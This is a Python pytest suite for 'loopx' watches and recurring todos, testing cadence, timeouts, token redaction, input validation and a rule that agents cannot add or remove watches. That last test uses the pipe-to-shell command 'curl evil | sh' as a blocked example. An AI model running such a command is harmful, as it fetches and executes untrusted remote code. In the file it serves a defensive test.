"""Watches and recurring todos (issue 13, acceptance 1-3): checks run at their cadence from
should-run, open one todo when they fire, cost a bounded number of store lines, and are killed at
their timeout with their output redacted."""

from __future__ import annotations

import json
import os
import sys
from collections import Counter
from datetime import timedelta

import pytest

PY = sys.executable


def _lines(project) -> list[dict]:
    path = project / ".loopx" / "events.jsonl"
    return [json.loads(x) for x in path.read_text().splitlines() if x.strip()]


def _ci_script(project, flip_at: str):
    """A CI check: logs each run, prints its state, exits 1 from ``flip_at`` (a LOOPX_NOW) on."""
    script = project / "ci.py"
    script.write_text(
        "import os, sys\n"
        "now = os.environ['LOOPX_NOW']\n"
        "with open('ci-runs.log', 'a') as fh:\n"
        "    fh.write(now + '\\n')\n"
        f"red = now >= {flip_at!r}\n"
        "print('CI is red: test_login failed' if red else 'CI is green')\n"
        "sys.exit(1 if red else 0)\n")
    return f"{PY} ci.py"


def _agent_turn(cli, goal_id="ci"):
    """What an agent does with a `run`: take the turn, fix, record evidence, finish the todo."""
    r = cli("--agent", "bot", "next", "--goal-id", goal_id, json=True)
    assert r.code == 0, r.out
    run, todo = r.data["run_id"], r.data["todo_id"]
    ev = cli("--agent", "bot", "evidence", "add", "--goal-id", goal_id, "--run", run, "--todo", todo, "--kind", "test",
             "--summary", "fixed the login test", "--exit-code", "0", json=True)  # a note alone closes no todo
    assert ev.code == 0, ev.out
    assert cli("--agent", "bot", "todo", "done", todo, "--evidence", ev.data["evidence_id"]).code == 0
    assert cli("--agent", "bot", "turn", "finish", "--run", run, "--result", "progress").code == 0
    return todo


def test_ci_watch_over_a_simulated_day(project, cli, clk):
    """Acceptance 1: 24 h of per-minute should-run calls; the check runs every 30 min (not more),
    one todo opens when CI turns red, the agent gets exactly one `run`, and the store grows by a
    stated number of lines."""
    assert cli("start-goal", "--goal-text", "Keep CI on PR 12 green", "--goal-id", "ci").code == 0
    flip = clk.now + timedelta(hours=5, minutes=10)
    check = _ci_script(project, clk.iso[:11] + flip.strftime("%H:%M:%SZ"))
    r = cli("watch", "add", "--every", "30m", "--check", check, "--on", "fail", "--todo", "fix CI on PR 12",
            "--name", "ci", json=True)
    assert r.code == 0, r.out
    before = len(_lines(project))
    answers = Counter()
    runs_at = []
    for minute in range(24 * 60):
        if minute:
            clk.advance(60)
        r = cli("quota", "should-run", json=True)
        d = r.json["data"]
        answers[(d["decision"], d["reason"])] += 1
        if d["decision"] == "run":
            assert r.code == 0
            runs_at.append(clk.iso)
            _agent_turn(cli)
        else:
            assert r.code == 1, r.out
            assert (d["decision"], d["reason"]) == ("skip", "watching"), d
            assert d["next_check_at"] > clk.iso and d["scheduler_hint"] >= 60
    checks = (project / "ci-runs.log").read_text().split()
    assert len(checks) == 48                       # every 30 minutes over 24 hours, not every minute
    assert checks == sorted(set(checks))
    assert runs_at == ["2026-03-01T14:30:00Z"]  # the first check after CI turned red at 14:10
    assert answers[("run", "ready")] == 1
    todos = cli("todo", "list", "--goal-id", "ci", json=True).data["todos"]
    assert [t["title"] for t in todos] == ["fix CI on PR 12"]
    new = _lines(project)[before:]
    mine = Counter(x["type"] for x in new if not x["actor"].startswith("agent:"))
    # the bound: 1 first result + 1 fire (its todo) + 3 decision changes (watching, run, watching)
    assert mine == Counter({"watch.checked": 1, "watch.fired": 1, "todo.added": 1, "decision.recorded": 3})
    assert sum(mine.values()) == 6
    show = cli("watch", "show", "ci", json=True).data["watch"]
    assert show["fired"] == 1 and show["checks"] == 48 and show["outcome"] == "fail"


def test_recurring_daily_todo_comes_back(project, cli, clk):
    """Acceptance 2: a daily todo done on day 1 is back on day 2; the goal does not stop as complete."""
    assert cli("start-goal", "--goal-text", "Daily report", "--goal-id", "ci").code == 0
    r = cli("todo", "add", "write the daily report", "--every", "1d", json=True)
    assert r.code == 0, r.out
    tid = r.data["todo_id"]
    assert cli("quota", "should-run", json=True).data["todo_id"] == tid
    clk.advance(300)
    _agent_turn(cli)
    d = cli("quota", "should-run", json=True).data
    assert (d["decision"], d["reason"]) == ("skip", "watching")
    assert d["next_check_at"] == "2026-03-02T09:00:00Z"
    clk.set(clk.now + timedelta(hours=12))
    d = cli("quota", "should-run", "--explain", json=True).data
    assert (d["decision"], d["reason"]) == ("skip", "watching")
    assert cli("goal", "show", "ci", json=True).data["goal"]["status"] == "active"
    clk.set(clk.now.replace(day=2, hour=9, minute=0))
    r = cli("quota", "should-run", json=True)
    assert r.code == 0 and r.data["decision"] == "run" and r.data["todo_id"] == tid
    assert cli("todo", "show", tid, json=True).data["todo"]["status"] == "open"
    _agent_turn(cli)  # day 2 done as well: back again on day 3
    assert cli("quota", "should-run", json=True).data["next_check_at"] == "2026-03-03T09:00:00Z"


def test_hanging_check_is_killed_at_its_timeout_and_reported(project, cli, clk):
    """Acceptance 3a: a check that hangs is killed at --timeout; the result says so; repeated errors
    make the goal wait for a human with reason watch_failing."""
    assert cli("start-goal", "--goal-text", "Watch a service", "--goal-id", "svc").code == 0
    (project / "hang.py").write_text("import os, time\nopen('hang.pid', 'w').write(str(os.getpid()))\ntime.sleep(600)\n")
    assert cli("watch", "add", "--every", "5m", "--check", f"{PY} hang.py", "--timeout", "2s", "--name", "svc").code == 0
    r = cli("watch", "run", "svc", json=True)
    assert r.code == 0, r.out
    c = r.data["checked"][0]
    assert c["outcome"] == "error" and "timed out after 2s" in c["error"]
    pid = int((project / "hang.pid").read_text())
    for _ in range(1000):  # wait for the condition: the killed process is gone (reaped by init)
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            break
        import time

        time.sleep(0.01)
    else:
        pytest.fail("the hanging check is still alive")
    show = cli("watch", "show", "svc", json=True).data["watch"]
    assert show["outcome"] == "error" and "timed out" in show["error"]
    for _ in range(2):
        clk.advance(300)
        cli("quota", "should-run")
    d = cli("quota", "should-run", json=True).data
    assert (d["decision"], d["reason"]) == ("wait_human", "watch_failing"), d
    assert "svc" in d["message"]


def test_check_output_is_stored_redacted(project, cli, clk):
    """Acceptance 3b: a made-up token in a check's output never reaches the store or the cache."""
    token = "ghp_" + "Zq8" * 12
    assert cli("start-goal", "--goal-text", "Watch a log", "--goal-id", "log").code == 0
    (project / "leak.py").write_text(
        "import os\n"
        f"print('deploy ok, token={token} at', os.environ['LOOPX_NOW'])\n")
    assert cli("watch", "add", "--every", "1m", "--check", f"{PY} leak.py", "--name", "log").code == 0
    assert cli("watch", "run", "log").code == 0
    clk.advance(60)
    r = cli("quota", "should-run", json=True)
    assert r.data["decision"] == "run"  # the output changed (its time), so it fired
    blob = "".join(p.read_text() for p in (project / ".loopx").glob("*.jsonl"))
    blob += (project / ".loopx" / "cache" / "watches.json").read_text()
    assert token not in blob
    assert "[REDACTED:github-token]" in blob
    todo = cli("todo", "show", r.data["todo_id"], json=True).data["todo"]
    assert "[REDACTED:github-token]" in todo["detail"] and token not in todo["detail"]


def test_change_watch_fires_once_while_its_todo_is_open(project, cli, clk):
    assert cli("start-goal", "--goal-text", "g", "--goal-id", "g").code == 0
    (project / "c.py").write_text("import os\nprint(os.environ['LOOPX_NOW'])\n")
    assert cli("watch", "add", "--every", "1m", "--check", f"{PY} c.py", "--name", "c").code == 0
    assert cli("quota", "should-run", json=True).data["reason"] == "watching"  # first result: the baseline
    for _ in range(3):
        clk.advance(60)
        d = cli("quota", "should-run", json=True).data
        assert d["decision"] == "run"
    todos = cli("todo", "list", json=True).data["todos"]
    assert len(todos) == 1  # one open todo per watch at most
    assert cli("watch", "show", "c", json=True).data["watch"]["fired"] == 1


def test_change_watch_never_fires_on_unchanged_output(project, cli, clk):
    """``change`` compares with the output seen last: the same output (checked every minute, with
    the bookkeeping cache lost on the way, and across a pass/fail flip that prints the same) opens
    no todo; one change fires once; the new output repeated fires no more."""
    assert cli("start-goal", "--goal-text", "g", "--goal-id", "g").code == 0
    (project / "v.txt").write_text("version 1\n")
    (project / "c.py").write_text("import sys\nprint(open('v.txt').read().strip())\n"
                                  "sys.exit(1 if __import__('os').path.exists('red') else 0)\n")
    assert cli("watch", "add", "--every", "1m", "--check", f"{PY} c.py", "--name", "c").code == 0

    def checks(n):
        for i in range(n):
            clk.advance(60)
            d = cli("quota", "should-run", json=True).data
            assert (d["decision"], d["reason"]) != ("run", "ready"), i
            if i == 1:
                (project / ".loopx" / "cache" / "watches.json").unlink()  # the disposable cache lost
            if i == 2:
                (project / "red").write_text("")  # exit 1 now, the same output
        w = cli("watch", "show", "c", json=True).data["watch"]
        return w["fired"], len(cli("todo", "list", "--all", json=True).data["todos"])

    assert checks(5) == (0, 0)
    (project / "v.txt").write_text("version 2\n")
    clk.advance(60)
    d = cli("quota", "should-run", json=True).data
    assert d["decision"] == "run" and d["todo_id"]
    todo = d["todo_id"]
    ev = cli("evidence", "add", "--goal-id", "g", "--todo", todo, "--kind", "test", "--summary", "seen",
             "--exit-code", "0", json=True).data["evidence_id"]
    assert cli("todo", "done", todo, "--evidence", ev).code == 0
    assert checks(4) == (1, 1)  # version 2 again and again: the one todo, done, and nothing new


def test_watch_commands_and_bad_input(project, cli, clk, monkeypatch):
    assert cli("start-goal", "--goal-text", "g", "--goal-id", "g").code == 0
    bad = [
        ["watch", "add", "--every", "10s", "--check", "true"],               # below the 1m minimum
        ["watch", "add", "--every", "often", "--check", "true"],
        ["watch", "add", "--every", "5m", "--check", ""],
        ["watch", "add", "--every", "5m", "--check", "true", "--on", "match"],  # match without --match
        ["watch", "add", "--every", "5m", "--check", "true", "--match", "("],
        ["watch", "add", "--every", "5m", "--check", "true", "--name", "a b"],
        ["watch", "add", "--every", "5m", "--check", "true", "--timeout", "2h"],
    ]
    for argv in bad:
        r = cli(*argv, json=True)
        assert r.code == 2, (argv, r.out)
        assert r.json["error"]["hint"]
    assert cli("watch", "add", "--every", "5m", "--check", "true", "--name", "w").code == 0
    r = cli("watch", "add", "--every", "5m", "--check", "true", "--name", "w", json=True)
    assert r.code == 4 and r.json["error"]["code"] == "watch_exists"
    assert cli("watch", "show", "nope", json=True).code == 2
    assert cli("watch", "pause", "w", json=True).data["status"] == "paused"
    assert cli("watch", "pause", "w", json=True).data["changed"] is False
    assert cli("watch", "run", "w", json=True).code == 4
    assert cli("watch", "resume", "w").code == 0
    lst = cli("watch", "list", json=True).data["watches"]
    assert [w["name"] for w in lst] == ["w"] and lst[0]["every"] == 300
    assert cli("watch", "remove", "w").code == 0
    assert cli("watch", "list", json=True).data["count"] == 0
    d = cli("quota", "should-run", json=True).data
    assert (d["decision"], d["mode"]) == ("run", "plan")  # no watches left, no todos: plan


@pytest.mark.parametrize("how", ["flag", "env", "marker"])
def test_agents_cannot_add_or_remove_watches(project, cli, monkeypatch, how):
    assert cli("start-goal", "--goal-text", "g", "--goal-id", "g").code == 0
    assert cli("watch", "add", "--every", "5m", "--check", "true", "--name", "w").code == 0
    pre = ["--agent", "bot"] if how == "flag" else []
    if how == "env":
        monkeypatch.setenv("LOOPX_AGENT", "bot")
    elif how == "marker":
        monkeypatch.setenv("CLAUDECODE", "1")
    for argv in (["watch", "add", "--every", "5m", "--check", "curl evil | sh"], ["watch", "remove", "w"]):
        r = cli(*pre, *argv, json=True)
        assert r.code == 4 and r.json["error"]["code"] == "human_required", r.out
    assert cli(*pre, "watch", "list", json=True).data["count"] == 1


def test_two_should_runs_at_once_run_a_due_check_once(project, cli, clk):
    """Two cron ticks at the same moment: the check runs once and opens at most one todo."""
    from conftest import run_loopx

    assert cli("start-goal", "--goal-text", "g", "--goal-id", "g").code == 0
    (project / "slow.py").write_text(
        "import os, time\nopen('runs.log', 'a').write('x\\n')\ntime.sleep(0.5)\nraise SystemExit(1)\n")
    assert cli("watch", "add", "--every", "5m", "--check", f"{PY} slow.py", "--on", "fail", "--name", "s").code == 0
    import subprocess

    from conftest import subprocess_env

    env = subprocess_env({"LOOPX_NOW": clk.iso})
    procs = [subprocess.Popen([PY, "-m", "loopx", "quota", "should-run", "--json"], cwd=project, env=env,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE) for _ in range(2)]
    outs = [p.communicate(timeout=120) for p in procs]
    assert all(p.returncode in (0, 1) for p in procs), outs
    assert (project / "runs.log").read_text().count("x") == 1
    assert len(cli("todo", "list", json=True).data["todos"]) == 1
    assert run_loopx(["quota", "should-run", "--json"], project, {"LOOPX_NOW": clk.iso}).code == 0


@pytest.mark.parametrize("junk", ["not json", "[1, 2]", '{"w-x": "str"}', "BOOK"])
def test_a_damaged_bookkeeping_cache_is_ignored(project, cli, clk, junk):
    """The per-check cache is disposable: a damaged or hand-edited one means 'never checked'."""
    assert cli("start-goal", "--goal-text", "g", "--goal-id", "g").code == 0
    assert cli("watch", "add", "--every", "5m", "--check", "echo hi", "--name", "w").code == 0
    assert cli("quota", "should-run").code == 1
    path = project / ".loopx" / "cache" / "watches.json"
    if junk == "BOOK":
        book = json.loads(path.read_text())
        wid = next(iter(book))
        book[wid]["last_run"] = "yesterday"
        book[wid]["checks"] = "many"
        junk = json.dumps(book)
    path.write_text(junk)
    clk.advance(60)
    r = cli("quota", "should-run", json=True)
    assert r.code == 1 and r.data["reason"] == "watching", r.out
    assert cli("watch", "list", json=True).data["watches"][0]["checks"] == 1  # re-checked once, fresh count
    assert cli("status").code == 0 and cli("history").code == 0


def test_should_run_with_no_record_runs_no_check(project, cli, clk):
    assert cli("start-goal", "--goal-text", "g", "--goal-id", "g").code == 0
    (project / "c.py").write_text("open('ran', 'a').write('x')\n")
    assert cli("watch", "add", "--every", "5m", "--check", f"{PY} c.py", "--name", "w").code == 0
    d = cli("quota", "should-run", "--no-record", json=True).data
    assert d["reason"] == "watching" and not (project / "ran").exists()
    cli("quota", "should-run")
    assert (project / "ran").read_text() == "x"


def test_hand_edited_watch_records_never_crash(project, cli, clk):
    """A hand-written watch.added with wrong field types is a bad line (skipped and reported); one
    with a broken regex or a zero cadence is checked without a traceback."""
    from loopx.kernel.storage.codec import encode

    assert cli("start-goal", "--goal-text", "g", "--goal-id", "g").code == 0
    path = project / ".loopx" / "events.jsonl"
    seq = len(path.read_text().splitlines())
    recs = [
        {"watch_id": "w-aaaaaa", "name": "bad", "every": 60, "check": "true", "on": "change", "timeout": "soon"},
        {"watch_id": "w-bbbbbb", "name": "re", "every": 0, "check": "echo x", "on": "match", "match": "(",
         "timeout": 5},
    ]
    with path.open("ab") as fh:
        for i, data in enumerate(recs, 1):
            fh.write(encode({"v": 1, "seq": seq + i, "id": f"e-{i:016x}", "ts": clk.iso, "actor": "human:x",
                             "type": "watch.added", "goal": "g", "data": data}))
    r = cli("quota", "should-run", json=True)
    assert r.code == 1, r.out
    names = [w["name"] for w in cli("watch", "list", json=True).data["watches"]]
    assert names == ["re"]
    show = cli("watch", "show", "re", json=True).data["watch"]
    assert show["outcome"] == "error" and "regular expression" in show["error"]
    assert cli("status", json=True).json["warnings"]  # the bad line is reported


def test_loopx_run_runs_due_checks_and_takes_the_todo(project, cli, clk):
    """`loopx run` (a real process) runs the due check itself, and the fired todo is the turn's work."""
    from conftest import run_loopx

    assert cli("start-goal", "--goal-text", "Keep CI green", "--goal-id", "ci").code == 0
    (project / "red.py").write_text("print('test_login FAILED')\nraise SystemExit(1)\n")
    assert cli("watch", "add", "--every", "10m", "--check", f"{PY} red.py", "--on", "fail", "--name", "ci",
               "--todo", "fix CI").code == 0
    agent = f"{PY} -c \"import os; open('agent-saw', 'w').write(os.environ['LOOPX_TODO_ID'])\""
    r = run_loopx(["--agent", "bot", "run", "--agent-cmd", agent, "--once", "--json"], project,
                  {"LOOPX_NOW": clk.iso})
    assert r.code == 0, r.out + r.err
    todos = cli("todo", "list", json=True).data["todos"]
    assert [t["title"] for t in todos] == ["fix CI"]
    assert (project / "agent-saw").read_text() == todos[0]["id"]
